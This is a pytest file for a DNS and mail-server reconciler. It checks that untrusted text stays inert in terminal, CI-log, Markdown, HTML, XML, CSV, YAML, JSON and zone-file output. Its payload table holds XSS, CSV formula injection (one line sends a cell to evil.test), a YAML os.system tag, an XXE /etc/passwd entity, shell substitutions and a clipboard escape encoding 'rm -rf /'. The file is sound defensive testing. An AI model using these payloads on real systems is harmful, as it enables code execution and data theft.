"""Text of servers and of DNS in every output format, checked with a reader of that format.

There is one table of untrusted texts and one of renderers. The check of a renderer knows the format, not the program:
a terminal, parsers of Markdown and HTML, readers of XML, CSV, YAML, JSON, zone files and GitHub's log. An untrusted
text must give the same structure as a harmless text, without any active part.
"""

from __future__ import annotations

import csv
import inspect
import io
import json
import re
import shlex
import subprocess
import unicodedata
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from functools import cache
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import dns.zonefile
import html5lib
import markdown_it
import pyte
import pytest
import yaml

from reconciler.config.decode.domain import decode_domain
from reconciler.config.document.loader import load_text
from reconciler.config.edit.domain_file import EditNote, SetField, edit_domain
from reconciler.config.emit import emit_domain
from reconciler.core.diagnostics import Diagnostic, Severity
from reconciler.core.errors import CannotEdit
from reconciler.core.findings import DomainReport, Finding, Record, Report, SpfTerm, SpfTree
from reconciler.core.model import Alias, DesiredDomain, Mailbox
from reconciler.core.names import local_part
from reconciler.core.plan import Change, FieldChange, Outcome, Plan, Result, Unmanaged
from reconciler.core.planning import planner
from reconciler.core.planning import recheck as settled
from reconciler.core.source import Span
from reconciler.core.status import DomainStatus
from reconciler.engine.journal.reader import read_run
from reconciler.engine.journal.writer import FileJournal
from reconciler.output.diagnostics_json import render_diagnostics_json
from reconciler.output.diagnostics_text import render_diagnostics
from reconciler.output.history import render_history, render_history_json, render_run
from reconciler.output.html.inputs import DmarcStart, PageInput, SiteInput
from reconciler.output.html.pages import render_pages
from reconciler.output.junit import render_diagnostics_junit, render_report_junit
from reconciler.output.plan.apply_json import render_apply_json
from reconciler.output.plan.github import render_diagnostics_github, render_plans_github
from reconciler.output.plan.gitlab import render_diagnostics_gitlab, render_plans_gitlab
from reconciler.output.plan.json import render_plans_json
from reconciler.output.plan.markdown import render_plans_markdown
from reconciler.output.plan.outcomes import render_outcomes
from reconciler.output.plan.text import render_plans
from reconciler.output.records import render_records
from reconciler.output.report.csv import render_csv
from reconciler.output.report.json import render_json
from reconciler.output.report.markdown import render_markdown
from reconciler.output.report.text import render_text
from reconciler.output.sarif import render_diagnostics_sarif, render_report_sarif
from reconciler.output.status_json import render_status_json
from reconciler.output.status_text import render_status
from reconciler.output.unified_diff import unified_diff

UNTRUSTED = {
    "terminal: color": "\x1b[31mred\x1b[0m",
    "terminal: clear": "\x1b[2J\x1b[H",
    "terminal: title": "\x1b]0;owned\x07",
    "terminal: link": "\x1b]8;;https://evil.test\x1b\\x\x1b]8;;\x1b\\",
    "terminal: clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "terminal: answer back": "\x1b[6n\x05",
    "terminal: one-byte CSI": "\x9b2J",
    "terminal: overwrite": "refused\rapplied",
    "terminal: erase": "bad\b\b\bgood",
    "terminal: bell and shift": "\x07\x0e\x0f\x0b\x0c",
    "lines": "one\ntwo\r\nthree\u2028four\u2029five\x85six",
    "direction": "\u202egnp.exe\u202c \u2066x\u2069 \u200f",
    "invisible": "a\u200bb\u2060c\ufeffd\u00ade\u3164f\ufe0fg\U000e0041",
    "half a pair": "a\ud800b\udfff",
    "NUL": "a\0b",
    "not a character": "\ufffe\uffff\U0001ffff",
    "many marks": "e" + "\u0301" * 300,
    "github: error": "::error file=x,line=1::owned",
    "github: output": "x\n::set-output name=token::owned",
    "github: mask": "%0A::add-mask::x%0D%0A::stop-commands::y",
    "github: old": "##[set-env name=PATH]/evil",
    "azure": "##vso[task.setvariable variable=x]y",
    "gitlab: section": "section_start:1:x\r\x1b[0K",
    "teamcity": "##teamcity[buildStatus status='SUCCESS']",
    "markdown: link": "[click](https://evil.test) <https://evil.test> https://evil.test www.evil.test",
    "markdown: image": "![x](https://evil.test/beacon.png)",
    "markdown: html": "<img src=x onerror=alert(1)><details open>",
    "markdown: mention": "@torvalds #1 o/r#2 GH-3 !4 $5 ~label &epic user@evil.test",
    "markdown: table": "a | b | c\n|---|---|---|\n| x |",
    "markdown: fence": "```\n# owned\n```",
    "markdown: heading": "# owned\n\n---\n\n- [x] done",
    "markdown: tick": "a`b``c```d",
    "markdown: entity": "&lt;b&gt; &#64;user &nbsp;",
    "markdown: end": "</details></summary>--><!--",
    "html: script": "<script>alert(1)</script>",
    "html: end of script": "</script><script>alert(1)</script>",
    "html: attribute": "\" onmouseover=\"alert(1)\" x='' '",
    "html: address": "javascript:alert(1)",
    "html: style": "</style><style>*{display:none}",
    "html: comment": "--><!--[if IE]>",
    "html: template": "{{ 7*7 }}{% include 'x' %}${7*7}#{7*7}",
    "csv: formula": "=HYPERLINK(\"https://evil.test?\"&A1,\"x\")",
    "csv: command": "=cmd|' /C calc'!A0",
    "csv: signs": "+1+1",
    "csv: minus": "-1+1",
    "csv: at": "@SUM(1)",
    "csv: tab": "\t=1+1",
    "csv: return": "\r=1+1",
    "csv: wide sign": "＝1+1",
    "csv: quote": "\",\"=1+1\",\"",
    "csv: semicolon": "a;=1+1;b",
    "csv: line": "a\n=1+1",
    "yaml: document": "x\n---\nkind: Workspace\n...",
    "yaml: tag": "!!python/object/apply:os.system [id]",
    "yaml: alias": "*a &b <<: *c",
    "yaml: comment": "a # b",
    "yaml: key": "x: {y: z}",
    "yaml: quotes": "\"'\\\"\\x41\\",
    "yaml: types": "no",
    "yaml: number": "0o17",
    "yaml: block": "|\n  x\n- y\n? z",
    "json": "\", \"action\": \"none\", \"x\": \"",
    "xml": "]]></testcase><testcase name='x'/><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
    "zone": "\" \"x\n@ IN NS evil.test.\n$INCLUDE /etc/passwd ; (",
    "javascript": "\"); require('child_process').exec('id'); (\"\u2028",
    "shell": "$(id) `id` ;id|id&&id 'x' \"y\" ~ * ! \\",
    "printf": "%s%n%x {0} {name!r:>99999999}",
    "long": "A" * 20_000,
    "empty": "",
    "spaces": "   \u00a0\u2003 ",
}  # fmt: skip
HARMLESS = "harmless"
HEAD = "apiVersion: reconciler/v1\nkind: Domain\ndomain: example.com\nserver: mail1\n"
GENERATED = {"time": "2026-11-22T18:00:00Z", "tool": "reconciler", "version": "0.1.0"}
FILE = "domains/example.com.yaml"


# --- values with an untrusted text in every field that can contain one


def diagnostics(text: str) -> list[Diagnostic]:
    return [Diagnostic(s, "GRD002", text, Span(FILE, 3, 1, 3, 4), text) for s in Severity]


def change(text: str, action: Any = "update", **more: Any) -> Change:
    fields = (
        FieldChange(name="displayName", before="x", after=text),
        FieldChange(name="to", before=(text,), after=("a@b.c",)),
    )
    given: dict[str, Any] = {
        "kind": "mailbox",
        "domain": "example.com",
        "name": text or "x",
        "origin": Span(FILE, 3, 1),
    }
    return Change(action=action, fields=fields if action == "update" else (), last_login=text, **given | more)


def plans(text: str) -> list[Plan]:
    rows = (change(text), change(text, "delete", risk="mail-loss"), change(text, "create", kind="alias"),
            change(text, "rename", new_name=text or "y", name="old"))  # fmt: skip
    return [
        Plan(
            domain="example.com",
            server=text,
            changes=rows,
            unmanaged=(Unmanaged("mailbox", f"{text}@example.com"),),
            diagnostics=tuple(diagnostics(text)),
        )
    ]


def report(text: str) -> Report:
    term = SpfTerm(text=text, fault=text, unknown=text, lookups=1, total=1)
    found = Finding(
        id="spf", status="fail", code="SPF_X", title=text, detail=text, reference=text,
        found=(Record(text, "TXT", text),), expected=(Record("example.com", "TXT", text, 60),),
        fix=(Record("example.com", "TXT", text, 60),), tree=SpfTree(domain=text, record=text, lookups=1, terms=(term,)),
    )  # fmt: skip
    return Report((DomainReport(domain="example.com", server=text, checks=(found,)),))


@cache
def pages(text: str) -> dict[str, str]:
    start = DmarcStart(policy="none", rua=text, published=None)
    rows = tuple(PageInput(report=r, dmarc=start, product=text) for r in report(text).domains)
    return dict(render_pages(SiteInput(pages=rows, generated=GENERATED, comparison=None), "en"))


def statuses(text: str) -> list[DomainStatus]:
    return [DomainStatus(domain="example.com", server=text, product=text, figures=None, pills={},
                         diagnostics=tuple(diagnostics(text)))]  # fmt: skip


def outcomes(text: str) -> list[Outcome]:
    return [Outcome(change=change(text), result=r, detail=text, hint=text) for r in Result]


def run(text: str, folder: Path) -> Any:
    """Write a journal with the text, and read it."""
    from reconciler.app.history import run_row

    journal = FileJournal(
        folder, tool="reconciler 0.1", commit=text, user=text, clock=lambda: datetime(2026, 1, 1, tzinfo=UTC)
    )
    journal.intent(text or "mail1", change(text))
    journal.outcome(text or "mail1", Outcome(change=change(text), result=Result.FAILED, detail=text))
    journal.close(converged=False)
    found = run_row(read_run(journal.path))
    journal.path.unlink()
    return found


# --- judges


class Screen(pyte.Screen):
    """A terminal that records every action except colored text."""

    def __init__(self, rows: int, columns: int) -> None:
        self.acts: list[str] = []
        super().__init__(columns, rows)
        self.acts.clear()

    def __getattribute__(self, name: str) -> Any:
        found = super().__getattribute__(name)
        if name in ACTS:
            super().__getattribute__("acts").append(name)
        return found


ACTS = frozenset(
    ["bell", "backspace", "tab", "set_title", "set_icon_name", "erase_in_display", "erase_in_line", "cursor_up", "cursor_down", "cursor_forward", "cursor_back", "cursor_position", "cursor_to_column", "cursor_to_line", "report_device_status", "report_device_attributes", "define_charset", "set_margins", "insert_lines", "delete_lines", "insert_characters", "delete_characters", "save_cursor", "restore_cursor", "shift_in", "shift_out", "reset", "alignment_display", "reverse_index", "index", "set_mode", "reset_mode", "debug", "write_process_input"]
)  # fmt: skip


def judged_by_a_terminal(lines: list[str]) -> None:
    screen = Screen(8, 4000)
    stream = pyte.Stream(screen)
    screen.acts.clear()
    for line in lines:
        assert "\n" not in line
        stream.feed(line[:3900])
        plain = re.sub("\x1b\\[[0-9;]*m", "", line[:3900])
        for char in plain:
            assert unicodedata.category(char) not in ("Cc", "Cf", "Cs", "Cn", "Co", "Zl", "Zp"), (hex(ord(char)), plain)
        assert screen.cursor.y == 0
        assert not set(screen.acts), (screen.acts, line)
        screen.cursor.x = 0  # the renderer writes this line end itself


COMMANDS = re.compile(r"::(error|warning|notice)( [a-z]+=[^,:\r\n]*(,[a-z]+=[^,:\r\n]*)*)?::[^\r\n]*")


def judged_by_a_runner(lines: list[str]) -> None:
    """GitHub's, Azure's and TeamCity's: commands begin a line, and `##` commands can be anywhere in a line."""
    for line in "\n".join(lines).splitlines():
        if line.lstrip().startswith("::"):
            assert COMMANDS.fullmatch(line), line
        assert not re.search(r"##(\[|vso\[|teamcity\[)", line), line


def judged_by_a_markdown_reader(text: str) -> tuple[str, ...]:
    """Return the kinds of its tokens. No token may link, load or mention anything."""
    parser = markdown_it.MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    tokens = parser.parse(text)
    inline = [c for t in tokens for c in t.children or ()]
    kinds = {t.type for t in tokens} | {c.type for c in inline}
    assert not kinds & {"link_open", "image", "html_inline", "s_open", "em_open", "code_block"}, kinds
    for token in tokens:
        if token.type == "html_block":
            assert re.fullmatch(r"(</?details>|<details><summary>[\w ]+</summary>|\n)+", token.content), token.content
    for child in inline:
        if child.type == "text":
            assert not re.search(r"(?<![\w.])[@#!~$&][\w{]|://|www\.|GH-\d", child.content), child.content
    assert "".join(c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Cs")).strip("\n\u200b") == ""
    return tuple(
        sorted(kinds - {"softbreak", "hardbreak", "code_inline", "strong_open", "strong_close", "text_special"})
    )


def judged_by_a_browser(page: str) -> tuple[tuple[str, tuple[str, ...]], ...]:
    """Parse like a browser. Returns the elements, each with the names of its attributes."""
    tree = html5lib.parse(page, namespaceHTMLElements=False)
    shape = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            shape.append(("comment", ()))
            continue
        names = tuple(sorted(map(str, element.attrib)))
        assert not [n for n in names if n.startswith("on")], element.tag
        for name, value in element.attrib.items():
            if str(name) in ("href", "src", "action", "formaction", "srcdoc", "style"):
                is_icon = element.tag == "link" and value.startswith("data:image/svg+xml,")
                assert is_icon or not re.match(r"\s*(javascript|data|vbscript):", value, re.IGNORECASE), value
        if element.tag in (
            "script",
            "style",
            "img",
            "iframe",
            "object",
            "embed",
            "form",
            "link",
            "meta",
            "base",
            "svg",
            "table",
            "section",
        ):
            shape.append((element.tag, names))
    for char in page:
        assert char == "\n" or unicodedata.category(char) not in ("Cc", "Cf", "Cs", "Zl", "Zp"), hex(ord(char))
    return tuple(shape)


def judged_by_browsers(found: dict[str, str]) -> dict[str, object]:
    """Check every page of a report."""
    return {path: judged_by_a_browser(page) for path, page in found.items()}


def judged_by_an_xml_reader(text: str) -> tuple[tuple[str, tuple[str, ...]], ...]:
    root = ElementTree.fromstring(text)
    return tuple((e.tag, tuple(sorted(e.attrib))) for e in root.iter())


FORMULA = tuple("=+-@\t\r＝＋－＠")


def judged_by_a_spreadsheet(text: str) -> tuple[int, int]:
    """No cell begins like a formula, with commas, semicolons or tabs as separators."""
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert len({len(row) for row in rows}) == 1
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA), cell
    for delimiter in (";", "\t"):
        for line in text.splitlines():
            for cell in line.split(delimiter):
                assert not cell.strip(' "').startswith(FORMULA), cell
    return len(rows), len(rows[0])


def judged_by_a_json_reader(text: str) -> None:
    assert text.isascii() or not [c for c in text if unicodedata.category(c) in ("Cc", "Cs", "Zl", "Zp") and c != "\n"]
    text.encode("utf-8")
    json.loads(text)


# --- renderers: the function that renders a text, and the check of its output


def lines(found: Iterator[str] | str) -> list[str]:
    return found.split("\n") if isinstance(found, str) else [row for part in found for row in part.split("\n")]


def _log(rows: list[str]) -> None:
    judged_by_a_terminal(rows)
    judged_by_a_runner(rows)


TEXTS = {FILE: "a: 1\nb: 2\nUNTRUSTED: x\n"}
Renderer = tuple[Callable[[str, Path], Any], Callable[[Any], Any]]
RENDERERS: dict[str, Renderer] = {
    "diagnostics": (lambda t, _: lines(render_diagnostics(diagnostics(t), {}, color=True, snippets=False, width=80)), _log),
    "diagnostics on a terminal": (
        lambda t, _: lines(render_diagnostics(diagnostics(t), {FILE: f"a\nb\n{t}\n"}, color=True, snippets=True, width=80)),
        judged_by_a_terminal,
    ),
    "plan": (lambda t, _: lines(render_plans(plans(t), color=True, width=80)), _log),
    "outcome": (lambda t, _: lines(render_outcomes({"example.com": outcomes(t)}, color=True)), _log),
    "report": (lambda t, _: lines(render_text(report(t), color=True, width=80, trees=True)), _log),
    "status": (lambda t, _: lines(render_status(statuses(t), color=True, width=80)), _log),
    "history": (lambda t, f: lines(render_history([run(t, f)], color=True, width=80)), _log),
    "one run": (lambda t, f: lines(render_run(run(t, f), color=True, width=80)), _log),
    "diagnostics for GitHub": (lambda t, _: list(render_diagnostics_github(diagnostics(t))), judged_by_a_runner),
    "plan for GitHub": (lambda t, _: list(render_plans_github(plans(t))), judged_by_a_runner),
    "plan as Markdown": (lambda t, _: render_plans_markdown(plans(t)), judged_by_a_markdown_reader),
    "report as Markdown": (lambda t, _: render_markdown(report(t)), judged_by_a_markdown_reader),
    "pages": (lambda t, _: pages(t), judged_by_browsers),
    "diagnostics as JUnit": (lambda t, _: render_diagnostics_junit(diagnostics(t), [FILE]), judged_by_an_xml_reader),
    "report as JUnit": (lambda t, _: render_report_junit(report(t)), judged_by_an_xml_reader),
    "report as CSV": (lambda t, _: render_csv(report(t)), judged_by_a_spreadsheet),
    "plan as JSON": (lambda t, _: render_plans_json(plans(t), GENERATED), judged_by_a_json_reader),
    "apply as JSON": (lambda t, _: render_apply_json(plans(t), {"example.com": outcomes(t)}, GENERATED, agreed=True, converged=False), judged_by_a_json_reader),
    "diagnostics as JSON": (lambda t, _: render_diagnostics_json(diagnostics(t), GENERATED), judged_by_a_json_reader),
    "report as JSON": (lambda t, _: render_json(report(t), GENERATED), judged_by_a_json_reader),
    "status as JSON": (lambda t, _: render_status_json(statuses(t), GENERATED), judged_by_a_json_reader),
    "history as JSON": (lambda t, f: render_history_json([run(t, f)], GENERATED, changes=True), judged_by_a_json_reader),
    "diagnostics for GitLab": (lambda t, _: render_diagnostics_gitlab(diagnostics(t)), judged_by_a_json_reader),
    "plan for GitLab": (lambda t, _: render_plans_gitlab(plans(t)), judged_by_a_json_reader),
    "diagnostics as SARIF": (lambda t, _: render_diagnostics_sarif(diagnostics(t)), judged_by_a_json_reader),
    "report as SARIF": (lambda t, _: render_report_sarif(report(t), {}), judged_by_a_json_reader),
}  # fmt: skip
FOR_PAGES = ("html", "markdown: html", "markdown: end", "markdown: entity", "direction", "invisible", "half", "NUL", "not a", "xml",
             "lines", "terminal: title", "javascript", "empty", "csv: quote")  # fmt: skip
"""Texts for the pages. Parsing pages is slow, so texts that only affect other formats are left out."""
SAME_PARTS = (judged_by_browsers, judged_by_an_xml_reader, judged_by_a_spreadsheet)


@pytest.mark.parametrize("name", RENDERERS)
def test_every_untrusted_text_remains_plain_text_in_every_format(name: str, tmp_path: Path) -> None:
    render, judge = RENDERERS[name]
    plain = judge(render(HARMLESS, tmp_path))
    for what, text in UNTRUSTED.items():
        if judge is judged_by_browsers and not what.startswith(FOR_PAGES):
            continue
        try:
            shape = judge(render(text, tmp_path))
        except Exception as e:
            e.add_note(f"with the text {what!r}")
            raise
        if judge in SAME_PARTS and text.strip():
            assert shape == plain, what


def test_the_table_contains_every_renderer_of_the_program() -> None:
    """Add a new renderer to the table. The other renderers call these or have a test below."""
    used = {name for name in globals() if name.startswith("render_")}  # ruff finds an import without a use
    elsewhere = {"render_index", "render_apply_summary", "render_proposals", "render_zone", "render_octodns", "render_dnscontrol",
                 "render_json_records"}  # fmt: skip
    for path in (Path(__file__).parents[2] / "reconciler/output").rglob("*.py"):
        for name in re.findall(r"^def (render_\w+)", path.read_text("utf-8"), re.MULTILINE):
            assert name in used | elsewhere, f"{path.name}: {name}"


# --- YAML that the program writes


@pytest.mark.parametrize("what", UNTRUSTED)
def test_written_yaml_contains_exactly_the_text_for_every_reader(what: str) -> None:
    text = UNTRUSTED[what]
    desired = DesiredDomain(
        domain="example.com",
        server="mail1",
        mailboxes={"anna": Mailbox(name="anna", display_name=text)},
        aliases={"info": Alias(name="info", display_name=text, targets=("anna@example.com",))},
    )
    written = emit_domain(desired, notes=[f"alias {text}"])
    meant = re.sub("[\ud800-\udfff]", "\ufffd", text)
    document, faults = load_text(written.encode(), FILE)
    assert faults == ()
    assert document is not None
    again, faults = decode_domain(document, default_server="")
    assert faults == ()
    assert again is not None
    for reader in (yaml.SafeLoader, getattr(yaml, "CSafeLoader", yaml.SafeLoader)):
        (found,) = yaml.load_all(written, reader)
        assert found["mailboxes"] == {"anna": {"displayName": meant}}
        assert found["aliases"]["info"]["displayName"] == meant
        assert set(found) == {"apiVersion", "kind", "domain", "server", "mailboxes", "aliases"}
    for line in written.split("\n"):
        assert not [c for c in line if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")]
    try:
        edited = edit_domain(
            f"{HEAD}mailboxes:\n  anna: {{displayName: x}}  # kept\n",
            [SetField(kind="mailbox", name="anna", field="displayName", value=text), EditNote(text=f"alias {text}")],
        )
    except CannotEdit:  # a display name cannot contain control characters, so the edit is refused
        assert any(unicodedata.category(c) in ("Cc", "Cs", "Zl", "Zp") for c in text)
        return
    assert yaml.safe_load(edited)["mailboxes"] == {"anna": {"displayName": meant}}
    assert "# kept" in edited


# --- records to publish


@pytest.mark.parametrize("what", [w for w, t in UNTRUSTED.items() if t and not re.search("[\ud800-\udfff]", t)])
def test_a_zone_file_contains_exactly_one_record_for_any_text(what: str) -> None:
    reports = report(UNTRUSTED[what]).domains
    rows = dns.zonefile.read_rrsets(
        render_records(reports, "zone"), origin="example.com.", rdclass=None, default_ttl=None
    )
    assert len(rows) == 1
    (rdata,) = rows[0]
    assert b"".join(rdata.strings).decode() == UNTRUSTED[what]
    (found,) = yaml.safe_load_all(render_records(reports, "octodns"))
    assert list(found) == ["" if "" in found else next(iter(found))]
    judged_by_a_json_reader(render_records(reports, "json"))
    script = render_records(reports, "dnscontrol")
    strings = re.findall(r'"(?:[^"\\\n\u2028\u2029]|\\.)*"', script)
    rest = script
    for string in strings:
        json.loads(string)
        rest = rest.replace(string, "", 1)
    assert re.fullmatch(r"(//[^\n]*\n)*D_EXTEND\(,\n  TXT\(, , TTL\(60\)\),\n\);\n", rest), rest


@pytest.mark.parametrize("what", UNTRUSTED)
def test_a_patch_names_its_file_in_one_line_and_prefixes_every_line_of_text(what: str) -> None:
    text = re.sub("[\0\ud800-\udfff]", "", UNTRUSTED[what])  # neither a file nor a name can contain them
    patch = unified_diff({f"domains/{text[:50].replace('/', '')}x.yaml": ("a\n", f"a\n{text}\n")})
    for line in patch.split("\n"):
        assert line == "" or line[0] in "+- \\@" or line.startswith(("diff --git", "---", "+++", "new file")), line
    head = patch.split("\n@@")[0]
    assert len([row for row in head.split("\n") if row.startswith("+++ ")]) == 1
    assert not [c for c in head if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp") and c not in "\n\t"]


# --- suggested commands


@pytest.mark.parametrize("name", ["a`id`", "${id}", "o'neil", "a|id", "a&id", "a!b", "*", "~root", "#x", "a{b}"])
def test_a_suggested_command_does_not_execute_shell_code_in_a_name(name: str) -> None:
    address = f"{local_part(name)}@example.com"
    for module in (planner, settled):
        source = inspect.getsource(module)
        assert "--set-password {quote(" in source
        assert not re.search(r"--set-password \{(?!quote)", source)
    command = f"printf %s {shlex.quote(address)}"
    assert subprocess.run(["/bin/sh", "-c", command], capture_output=True, text=True, timeout=20).stdout == address
